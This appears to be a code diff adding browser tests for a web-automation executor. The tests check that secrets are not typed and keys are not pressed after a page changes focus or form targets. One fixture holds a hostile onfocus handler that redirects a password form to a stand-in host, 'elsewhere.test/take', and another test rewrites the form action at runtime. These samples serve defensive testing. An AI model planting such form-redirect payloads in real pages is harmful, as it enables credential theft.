@@ -1,5 +1,6 @@
 """The Executor on a real page: what it reports, and that nothing is done that was not judged."""
 
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -25,8 +26,9 @@ from events.observer import BrowserLost
 from events.planner import LookalikesRequested
 from events.validator import ActionStarted, PlanAdmitted, QueryStarted
 from events.vocabulary import AnyEvent
-from events.workflow import RunSettings
+from events.workflow import Policy, RunSettings
 from tests.browser.page_server import PageServer
+from tests.policies import HERE
 
 pytestmark = [pytest.mark.browser, pytest.mark.anyio]
 
@@ -37,13 +39,13 @@ class OneWindow:
     def __init__(self, window: Window) -> None:
         self._window = window
 
-    async def open_window(self) -> Window:
+    async def open_window(self, policy: Policy) -> Window:
         return self._window
 
 
 @pytest.fixture
 async def executor(window: Window) -> Executor:
-    screen = Screen(OneWindow(window))
+    screen = Screen(OneWindow(window), HERE)
     await screen.open()
     bindings = Bindings({"customer": "Aurora"}, {"password": SECRET})
     return Executor(screen, bindings, RunSettings())
@@ -261,6 +263,143 @@ async def test_a_person_may_type_elsewhere_once_the_step_is_over(
         assert done.value_set
     await tab.page.frame_locator("iframe").locator("#b").press("x")
     assert await tab.page.frame_locator("iframe").locator("#b").input_value() == "xrope"
+
+
+async def test_a_secret_is_not_typed_into_what_a_field_became_when_it_got_the_focus(
+    executor: Executor, tab: Tab, server: PageServer
+) -> None:
+    moved = "onfocus=\"form.action = 'http://elsewhere.test/take'\""
+    await show(tab, server, f"<form method=post><input id=a type=password {moved}></form>")
+    action = act_on("type", "#a", Secret("password"))
+    changed = await perform(executor, action)
+    assert isinstance(changed, TargetChanged)
+    assert changed.element.form_action == "http://elsewhere.test/take"
+    assert await tab.page.input_value("#a") == ""
+
+
+async def test_nothing_is_typed_when_the_form_leads_elsewhere_by_then(
+    executor: Executor, tab: Tab, server: PageServer, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    await show(tab, server, "<form method=post><input id=a type=password></form>")
+    insert = tab.insert
+
+    async def insert_late(text: str, *, within_ms: int) -> None:
+        await tab.page.evaluate("document.forms[0].action = 'http://elsewhere.test/'")
+        await insert(text, within_ms=within_ms)
+
+    monkeypatch.setattr(tab, "insert", insert_late)
+    failed = await perform(executor, act_on("type", "#a", Secret("password")))
+    assert isinstance(failed, ActionFailed)
+    assert (failed.code, failed.dispatched) == ("action_failed", False)
+    assert await tab.page.input_value("#a") == ""
+
+
+KEYED = """<input id=a aria-label=Notes><form method=post action=/another><input id=b>
+    <button id=c>Pay</button></form><iframe id=d srcdoc="<input id=e><button id=f>Go</button>">
+    </iframe><div id=host></div><script>
+    host.attachShadow({mode: 'open'}).innerHTML = '<input id=g><input id=h>';
+    onkeydown = (e) => document.title += e.key</script>"""
+
+
+@pytest.mark.parametrize(
+    ("before", "after"),
+    [
+        ("a.focus()", "c.focus()"),
+        ("a.focus()", "a.blur()"),
+        ("a.focus()", "d.contentDocument.getElementById('f').focus()"),
+        (
+            "d.contentDocument.getElementById('e').focus()",
+            "d.contentDocument.getElementById('f').focus()",
+        ),
+        (
+            "host.shadowRoot.getElementById('g').focus()",
+            "host.shadowRoot.getElementById('h').focus()",
+        ),
+        ("b.focus()", "b.form.action = '/pay'"),
+    ],
+)
+@pytest.mark.parametrize("late", [False, True])
+async def test_a_key_is_not_pressed_where_the_focus_was_moved_to(
+    executor: Executor,
+    tab: Tab,
+    server: PageServer,
+    monkeypatch: pytest.MonkeyPatch,
+    before: str,
+    after: str,
+    late: bool,
+) -> None:
+    await show(tab, server, KEYED)
+    await tab.page.evaluate(before)
+    action = Action("press", key="Enter")
+    found = await resolve(executor, action)
+    press = tab.press
+
+    async def press_late(key: str, *, within_ms: int) -> None:
+        await tab.page.evaluate(after)
+        await press(key, within_ms=within_ms)
+
+    if late:
+        monkeypatch.setattr(tab, "press", press_late)
+    else:
+        await tab.page.evaluate(after)
+    asked = len(server.asked)
+    changed = await tell(executor, ActionStarted(1, 1, action, digest=found.element.exact))
+    assert isinstance(changed, TargetChanged)
+    assert changed.element.exact != found.element.exact
+    assert await title(tab) == ""
+    assert len(server.asked) == asked
+
+
+async def test_a_key_is_pressed_on_what_was_judged_wherever_it_is(
+    executor: Executor, tab: Tab, server: PageServer
+) -> None:
+    await show(tab, server, KEYED)
+    focus = {
+        "a.focus()": "x",
+        "d.contentDocument.getElementById('e').focus()": "x",
+        "host.shadowRoot.getElementById('h').focus()": "y",
+        "host.shadowRoot.activeElement.blur()": "Shift+Z",
+    }
+    for script, key in focus.items():
+        await tab.page.evaluate(script)
+        assert isinstance(await perform(executor, Action("press", key=key)), ActionDone)
+    assert await title(tab) == "xyShiftZ"
+    assert await tab.page.frame_locator("iframe").locator("#e").input_value() == "x"
+    found = await resolve(executor, act_on("press", "#b", key="Enter"))
+    assert (found.element.submits, found.element.form_method) == (True, "post")
+    found = await resolve(executor, act_on("press", "#b", key="a"))
+    assert not found.element.submits
+    tabbed = await perform(executor, act_on("press", "#b", key="Tab"))
+    assert isinstance(tabbed, ActionDone)
+    sent = await perform(executor, act_on("press", "#b", key="Enter"))
+    assert (sent.navigated, server.asked[-1][:8]) == (True, "/another")
+
+
+async def test_a_focus_that_moves_between_two_keys_leaves_it_open_what_was_done(
+    executor: Executor, tab: Tab, server: PageServer
+) -> None:
+    await show(tab, server, "<input id=a onkeydown=b.focus()><input id=b value=mine>")
+    failed = await perform(executor, act_on("press", "#a", key="Shift+X"))
+    assert isinstance(failed, ActionFailed)
+    assert (failed.code, failed.dispatched) == ("action_failed", True)
+    assert await tab.page.input_value("#b") == "mine"
+
+
+async def test_files_larger_than_the_policy_allows_are_not_sent(
+    executor: Executor, window: Window, server: PageServer, tmp_path: Path
+) -> None:
+    await show(window.tab, server, "<input id=a type=file multiple>")
+    big, small = tmp_path / "big", tmp_path / "small"
+    big.write_bytes(bytes(1_000_001))
+    small.write_bytes(bytes(10))
+    screen = Screen(OneWindow(window), HERE)
+    await screen.open()
+    bounded = Executor(screen, Bindings({}, {}), RunSettings(), upload_mb=1)
+    failed = await perform(bounded, act_on("type", "#a", Text(f"{small}\n{big}")))
+    assert isinstance(failed, ActionFailed)
+    assert (failed.code, failed.dispatched) == ("action_failed", False)
+    assert "1 MB" in failed.message
+    assert isinstance(await perform(bounded, act_on("type", "#a", Text(str(small)))), ActionDone)
 
 
 @pytest.mark.parametrize("key", ["Foo", "Control+Foo", "Foo+a"])
